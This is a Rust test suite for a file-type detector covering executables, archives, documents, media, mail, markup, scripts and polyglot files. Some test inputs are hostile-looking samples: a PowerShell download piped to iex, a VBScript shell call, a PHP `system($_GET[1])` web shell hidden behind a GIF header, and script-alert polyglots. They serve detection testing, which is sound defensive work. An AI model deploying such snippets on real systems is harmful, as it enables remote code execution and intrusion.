use std::collections::HashSet;

use super::*;

fn check(bytes: &[u8], expect: &str) {
    let found = detect(bytes);
    let start = String::from_utf8_lossy(&bytes[..bytes.len().min(40)]).into_owned();
    assert_eq!(found.ty.id, expect, "for {start:?}");
}

/// `parts` placed over `size` bytes of filler.
fn placed(size: usize, filler: u8, parts: &[(usize, &[u8])]) -> Vec<u8> {
    let mut bytes = vec![filler; size];
    for (at, part) in parts {
        let end = at + part.len();
        if bytes.len() < end {
            bytes.resize(end, filler);
        }
        bytes[*at..end].copy_from_slice(part);
    }
    bytes
}

#[test]
fn tables_are_consistent() {
    let mut ids = HashSet::new();
    for ty in all() {
        assert!(ids.insert(ty.id), "{} twice", ty.id);
        let id_char = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_';
        assert!(!ty.id.is_empty() && ty.id.chars().all(id_char), "{}", ty.id);
        assert!(!ty.description.is_empty() && ty.description.len() < 60, "{}", ty.id);
        let (kind, subtype) = ty.mime.split_once('/').expect(ty.id);
        let token = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-+._".contains(c);
        assert!(!kind.is_empty() && kind.chars().all(token), "{}", ty.mime);
        assert!(!subtype.is_empty() && subtype.chars().all(token), "{}", ty.mime);
        for extension in ty.extensions {
            assert!(!extension.is_empty() && !extension.starts_with('.'), "{}", ty.id);
            assert_eq!(*extension, extension.to_lowercase(), "{}", ty.id);
        }
    }
    assert!(ids.len() >= 500, "{} types", ids.len());
    let shared = "zip jar apk docx xlsx pptx docm xlsm pptm odt ods odp odg epub xps vsdx ipa nupkg \
                  whl crx msix 7z tar gzip bzip2 xz zstd lz4 lzma lzip compress cab iso9660 ar deb \
                  rpm cpio arj lha szdd kwaj chm rar xar ace squashfs arc zoo sis";
    for id in shared.split_ascii_whitespace().chain(ZIP_BASED.iter().copied()) {
        assert!(by_id(id).is_some(), "{id}");
    }
}

/// Every signature that needs no check gives its own type, or a more specific one whose longer
/// signature holds in the same bytes: no row is shadowed by another.
#[test]
fn every_signature_is_reachable() {
    let mut shadowed = Vec::new();
    for entry in tables::TABLES.iter().flat_map(|table| table.iter()) {
        for signature in entry.signatures.iter().filter(|_| entry.check.is_none()) {
            // Text signatures on text, others on bytes that are not.
            let printable =
                signature.iter().all(|(_, bytes)| bytes.iter().all(|b| (9..127).contains(b)));
            let filler =
                if printable && matches!(entry.ty.category, Category::Text | Category::Script) {
                    b'\n'
                } else {
                    0x81
                };
            let mut bytes = placed(300, filler, signature);
            if filler != b'\n' {
                bytes[250] = 1; // No signature reaches here; no text has it.
            }
            let found = detect(&bytes).ty;
            if found.id != entry.ty.id {
                shadowed.push((entry.ty.id, found.id));
            }
        }
    }
    assert_eq!(shadowed, []);
}

#[test]
fn plain_data() {
    check(b"", "empty");
    check(b"hello, world\n", "txt");
    check("grüße aus köln\n".as_bytes(), "txt_utf8");
    check(b"gr\xfc\xdfe aus k\xf6ln, wo alles gut ist\n", "txt_latin1");
    check(b"\xff\xfeh\0e\0l\0l\0o\0", "txt_utf16le");
    check(b"\xfe\xff\0h\0e\0l\0l\0o", "txt_utf16be");
    check(b"h\0e\0l\0l\0o\0 \0y\0o\0u\0", "txt_utf16le");
    check(b"\x01\x02\x03\x80\x90 random", "binary");
    check(&[0; 4096], "binary");
}

#[test]
fn executables() {
    let pe = |characteristics: u16, subsystem: u16, clr: u32| {
        let mut bytes = placed(
            0x200,
            0,
            &[(0, b"MZ\x90\0\x03"), (0x3c, b"\x80\0\0\0"), (0x80, b"PE\0\0\x4c\x01")],
        );
        bytes[0x96..0x98].copy_from_slice(&characteristics.to_le_bytes());
        bytes[0x98..0x9a].copy_from_slice(&0x10bu16.to_le_bytes());
        bytes[0x98 + 68..0x98 + 70].copy_from_slice(&subsystem.to_le_bytes());
        bytes[0x98 + 92..0x98 + 96].copy_from_slice(&16u32.to_le_bytes());
        bytes[0x98 + 96 + 112..0x98 + 96 + 116].copy_from_slice(&clr.to_le_bytes());
        bytes
    };
    check(&pe(0x102, 2, 0), "pe");
    check(&pe(0x2102, 2, 0), "pe_dll");
    check(&pe(0x102, 1, 0), "pe_driver");
    check(&pe(0x102, 3, 0x2008), "pe_dotnet");
    check(&pe(0x102, 10, 0), "pe_efi");
    check(&placed(0x100, 0, &[(0, b"MZ\x90\0")]), "dos_exe");
    check(&placed(0x100, 0, &[(0, b"MZ"), (0x3c, b"\x80\0\0\0"), (0x80, b"NE")]), "ne");
    check(b"MZ is how the executables of Mark Zbikowski begin.\n", "txt");
    check(&placed(64, 0, &[(0, b"\x7fELF\x02\x01\x01"), (16, b"\x02\0\x3e\0")]), "elf");
    check(&placed(64, 0, &[(0, b"\x7fELF\x02\x01\x01"), (16, b"\x01\0\x3e\0")]), "elf_object");
    check(&placed(64, 0, &[(0, b"\x7fELF\x02\x01\x01"), (16, b"\x03\0\x3e\0")]), "elf_so");
    let pie: &[(usize, &[u8])] = &[
        (0, b"\x7fELF\x02\x01\x01"),
        (16, b"\x03\0\x3e\0"),
        (32, b"\x40"),
        (54, b"\x38\0\x01\0"),
        (64, b"\x03\0\0\0"),
    ];
    check(&placed(128, 0, pie), "elf");
    check(&placed(64, 0, &[(0, b"\xca\xfe\xba\xbe\0\0\0\x02")]), "macho_fat");
    check(&placed(64, 0, &[(0, b"\xca\xfe\xba\xbe\0\0\0\x34")]), "java_class");
    check(&placed(64, 0, &[(0, b"\xcf\xfa\xed\xfe"), (12, b"\x06\0\0\0")]), "macho_dylib");
    check(b"\x55\x0d\x0d\x0a\0\0\0\0\x12\x34\x56\x78\0\0\0\0\xe3", "pyc");
}

/// A zip of empty stored entries; `mimetype` gets a body.
fn zip(names: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for (name, body) in names {
        let offset = out.len() as u32;
        let mut common = Vec::new();
        common.extend(b"\x14\0\0\0\0\0\0\0\0\0\0\0\0\0");
        common.extend((body.len() as u32).to_le_bytes());
        common.extend((body.len() as u32).to_le_bytes());
        common.extend((name.len() as u16).to_le_bytes());
        common.extend(0u16.to_le_bytes());
        out.extend(b"PK\x03\x04");
        out.extend(&common);
        out.extend(name.as_bytes());
        out.extend(*body);
        central.extend(b"PK\x01\x02\x14\0");
        central.extend(&common);
        central.extend([0; 10]);
        central.extend(offset.to_le_bytes());
        central.extend(name.as_bytes());
    }
    let start = out.len() as u32;
    out.extend(&central);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend((names.len() as u16).to_le_bytes());
    out.extend((names.len() as u16).to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend([0, 0]);
    out
}

#[test]
fn zip_kinds() {
    let of = |names: &[&str]| {
        let entries: Vec<(&str, &[u8])> = names.iter().map(|name| (*name, &b""[..])).collect();
        zip(&entries)
    };
    check(&of(&["a.txt"]), "zip");
    check(&of(&["word/a.txt"]), "zip");
    check(&of(&["[Content_Types].xml", "word/document.xml"]), "docx");
    check(&of(&["[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"]), "docm");
    check(&of(&["[Content_Types].xml", "xl/workbook.xml"]), "xlsx");
    check(&of(&["[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"]), "xlsm");
    check(&of(&["[Content_Types].xml", "xl/workbook.bin"]), "xlsb");
    check(&of(&["[Content_Types].xml", "ppt/presentation.xml"]), "pptx");
    check(&of(&["[Content_Types].xml", "ppt/presentation.xml", "PPT\\vbaproject.BIN"]), "pptm");
    check(&of(&["[Content_Types].xml", "visio/document.xml"]), "vsdx");
    check(&of(&["META-INF/MANIFEST.MF", "a/B.class"]), "jar");
    check(&of(&["AndroidManifest.xml", "classes.dex", "META-INF/MANIFEST.MF"]), "apk");
    check(&of(&["Payload/App.app/Info.plist"]), "ipa");
    check(&of(&["package.nuspec", "[Content_Types].xml"]), "nupkg");
    check(&of(&["x/__init__.py", "x-1.dist-info/WHEEL"]), "whl");
    check(&of(&["AppxManifest.xml", "AppxBlockMap.xml", "[Content_Types].xml"]), "msix");
    check(&of(&["[Content_Types].xml", "FixedDocSeq.fdseq"]), "xps");
    check(&zip(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("a", b"")]), "odt");
    check(&zip(&[("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]), "ods");
    check(&zip(&[("mimetype", b"application/vnd.oasis.opendocument.presentation")]), "odp");
    check(&zip(&[("mimetype", b"application/vnd.oasis.opendocument.graphics")]), "odg");
    check(&zip(&[("mimetype", b"application/epub+zip")]), "epub");
    let mut crx = b"Cr24\x03\0\0\0\0\0\0\0".to_vec();
    crx.extend(of(&["manifest.json"]));
    check(&crx, "crx");
}

#[test]
fn media_and_images() {
    check(&placed(64, 0, &[(0, b"BM"), (10, b"\x36\0\0\0\x28\0\0\0")]), "bmp");
    check(b"BMW is a maker of cars in Munich.\n", "txt");
    check(&placed(64, 0, &[(0, b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2")]), "mp4");
    check(&placed(64, 0, &[(0, b"\0\0\0\x18ftypmif1\0\0\0\0mif1avif")]), "avif");
    check(&placed(64, 0, &[(0, b"OggS\0\x02"), (26, b"\x01\x13OpusHead")]), "opus");
    check(&placed(64, 0, &[(0, b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm")]), "webm");
    check(&placed(64, 0, &[(0, b"\x1a\x45\xdf\xa3\x9f\x42\x82\x88matroska")]), "mkv");
    check(&placed(900, 0, &[(0, b"\xff\xfb\x90\x64"), (417, b"\xff\xfb\x90\x64")]), "mp3");
    check(
        &placed(
            1000,
            9,
            &[(0, b"\x47"), (188, b"\x47"), (376, b"\x47"), (564, b"\x47"), (752, b"\x47")],
        ),
        "mpeg_ts",
    );
    check(&placed(64, 0, &[(0, b"II\x2a\0\x08\0\0\0\x01\0\x12\xc6\x01\0\x04\0\0\0")]), "dng");
    check(&placed(64, 0, &[(0, b"II\x2a\0\x08\0\0\0\x01\0\0\x01\x04\0\x01\0\0\0")]), "tiff");
    check(b"P6\n3 2\n255\n\x01\x02\x03", "ppm");
    check(b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR.................\0\0\0\x08acTL", "apng");
}

#[test]
fn archives_without_a_plain_signature() {
    let mut tar = placed(
        1024,
        0,
        &[(0, b"BMW.txt"), (100, b"0000644\0"), (124, b"00000000000\0"), (148, b"        ")],
    );
    let sum: u32 = tar[..512].iter().map(|byte| u32::from(*byte)).sum();
    tar[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    check(&tar, "tar");
    tar[0] = b'C';
    check(&tar, "binary");
    check(&placed(40, 0, &[(0, b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x11")]), "lzma");
    // Numbers of a MATLAB file, and words of a text.
    check(b"\0\0\0\0\x02\0\0\0\x01\0\0\0\0\0\0\0\x0b\0\0\0fit_params\0", "binary");
    check(b"x^2 + y^2 = z^2 holds for many triples of numbers\n", "txt");
    check(&placed(0x9000, 0, &[(0x8000, b"\x01CD001\x01")]), "iso9660");
    check(
        &placed(
            0x9000,
            0,
            &[
                (446, b"\x80\0\0\0\x17\0\0\0\x01\0\0\0"),
                (510, b"\x55\xaa"),
                (0x8000, b"\x01CD001\x01"),
            ],
        ),
        "iso9660",
    );
    check(b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n", "deb");
    check(&placed(80, b'0', &[(0, b"070701")]), "cpio");
    check(b"begin 644 a.exe\n#0V%T\n`\nend\n", "uuencode");
    check(b"begin with the end in mind\n", "txt");
    check(b"BZh91AY&SY\x01\x02", "bzip2");
}

#[test]
fn documents() {
    check(b"%PDF-1.7\n1 0 obj", "pdf");
    check(b"junk first\n%PDF-1.4\n1 0 obj<<>>endobj\nstartxref\n0\n%%EOF", "pdf");
    check(b"The string %PDF-1.4 begins a PDF.\n", "txt");
    check(b"{\\rtf1\\ansi hello}", "rtf");
    check(b"<?xml version=\"1.0\"?><office:document xmlns:office=\"urn:oasis:names:tc:opendocument\"/>", "fodt");
}

#[test]
fn mail() {
    check(b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\n\r\nhello", "eml");
    check(b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n", "eml");
    check(b"From a@example.org Mon Jan  1 00:00:00 2024\nFrom: a@example.org\n\nhello\n", "mbox");
    check(b"From: <Saved by Blink>\r\nSnapshot-Content-Location: x\r\nSubject: y\r\nMIME-Version: 1.0\r\n\r\n", "mhtml");
    check(b"Package: coreutils\nVersion: 9.1\nSection: utils\n", "txt");
    check(b"Dear all: this is no header.\nFrom: nowhere\n", "txt");
}

#[test]
fn markup() {
    check(b"<!DOCTYPE html><html></html>", "html");
    check(b"  <script>alert(1)</script>", "html");
    check(b"<html><head><HTA:APPLICATION id=x></head></html>", "hta");
    check(
        b"<?xml version=\"1.0\"?>\n<!-- c -->\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        "svg",
    );
    check(b"<?xml version=\"1.0\"?><rss version=\"2.0\"/>", "rss");
    check(b"<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"x\" \"y\"><plist/>", "plist");
    check(b"<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>", "xslt");
    check(b"<?xml version=\"1.0\"?><wsdl:definitions xmlns:wsdl=\"http://schemas.xmlsoap.org/wsdl/\"/>", "wsdl");
    check(b"<?xml version=\"1.0\"?><other/>", "xml");
    check(b"<job id=\"x\"><script language=\"JScript\">var a;</script></job>", "wsf");
    check(b"<?php echo 1;", "php");
    check(b"<- an arrow\n", "txt");
}

#[test]
fn structured_text() {
    check(b"{\"a\": [1, 2.5e3, true, null], \"b\": \"x\\\"y\"}", "json");
    check(b"{\"a\": 1}\n{\"a\": 2}\n", "ndjson");
    check(b"[section]\nkey = value\nother = 1\n", "ini");
    check(b"[a]\nkey = \"value\"\nother = [1, 2]\n", "toml");
    check(b"a,b,c\n1,2,3\n4,\"5,6\",7\n", "csv");
    check(b"{ not json }", "txt");
    check(b"[InternetShortcut]\r\nURL=http://example.org/\r\n", "internet_shortcut");
    check(b"\xff\xfeW\0i\0n\0d\0o\0w\0s\0 \0R\0e\0g\0i\0s\0t\0r\0y\0 \0E\0d\0i\0t\0o\0r\0 \0V\0e\0r\0s\0i\0o\0n\0 \x005\0.\x000\x000\0", "registry");
}

#[test]
fn scripts() {
    check(b"#!/bin/sh\necho hi\n", "shell");
    check(b"#!/usr/bin/env -S python3 -u\nprint(1)\n", "python");
    check(b"#! /usr/bin/perl -w\n", "perl");
    check(b"@echo off\r\nsetlocal\r\ndel %temp%\\x\r\n", "batch");
    check(b"Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", "vbscript");
    check(
        b"$c = New-Object Net.WebClient\n$c.DownloadString('http://example.org') | iex\n",
        "powershell",
    );
    check(
        b"var s = new ActiveXObject('x'); function f() { return s === undefined; }\n",
        "javascript",
    );
    check(b"import os\nfrom sys import argv\ndef main():\n    print(argv)\nif __name__ == '__main__':\n    main()\n", "python");
    check(b"#include <stdio.h>\n#define X 1\nint main(void) { return sizeof X; }\n", "c");
    check(b"The function of this document is to return to you what is new.\n", "txt");
    check(b"Please import the data and set the values from the table, then end.\n", "txt");
}

#[test]
fn polyglots() {
    let also = |bytes: &[u8]| -> Vec<&str> { detect(bytes).also.iter().map(|ty| ty.id).collect() };
    let archive = zip(&[("a.exe", b"x")]);
    let gif = b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0;";
    let behind = [&gif[..], &archive].concat();
    assert_eq!(also(&behind), ["zip"]);
    assert!(detect(&behind).is_polyglot());
    assert_eq!(also(b"GIF89a/*\x01\x80\0*/=1;alert(1)"), ["javascript"]);
    assert_eq!(also(b"GIF89a\x01\0\x01\0<?php system($_GET[1]); ?>"), ["php"]);
    assert_eq!(also(b"GIF89a\x01\0<script>alert(1)</script>"), ["html"]);
    let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\nstartxref\n0\n%%EOF\n";
    assert_eq!(also(&[&pdf[..], &archive].concat()), ["zip"]);
    let exe =
        placed(0x200, 0, &[(0, b"MZ\x90\0\x03"), (0x3c, b"\x80\0\0\0"), (0x80, b"PE\0\0\x4c\x01")]);
    let sfx = [&exe[..], &archive].concat();
    assert_eq!(also(&sfx), ["zip"]);
    assert!(!detect(&sfx).is_polyglot(), "self-extracting archives are ordinary");
    let mut both = exe.clone();
    both.extend(pdf);
    assert_eq!(also(&both), ["pdf"]);
    // Ordinary files.
    assert_eq!(also(&archive), [""; 0]);
    assert_eq!(also(&zip(&[("stored.pdf", pdf)])), [""; 0]);
    assert_eq!(also(&[&pdf[..], b"\r\n\r\n"].concat()), [""; 0]);
    assert_eq!(also(gif), [""; 0]);
    assert_eq!(also(&zip(&[("[Content_Types].xml", b""), ("word/document.xml", b"")])), [""; 0]);
}

/// Cut short anywhere and changed anywhere, nothing panics.
#[test]
fn broken_bytes_survive() {
    let mut seeds: Vec<Vec<u8>> = Vec::new();
    for entry in tables::TABLES.iter().flat_map(|table| table.iter()) {
        seeds.extend(entry.signatures.iter().map(|signature| placed(160, 0, signature)));
        seeds.extend(entry.signatures.iter().map(|signature| placed(160, 0xff, signature)));
    }
    seeds.push(zip(&[("mimetype", b"application/epub+zip"), ("a", b"b")]));
    let mut state = 1u32;
    for seed in &seeds {
        for end in (0..seed.len().min(160)).step_by(7) {
            detect(&seed[..end]);
        }
        let mut bytes = seed.clone();
        for _ in 0..8 {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            let at = (state >> 8) as usize % bytes.len();
            bytes[at] = state as u8;
            detect(&bytes);
        }
    }
}
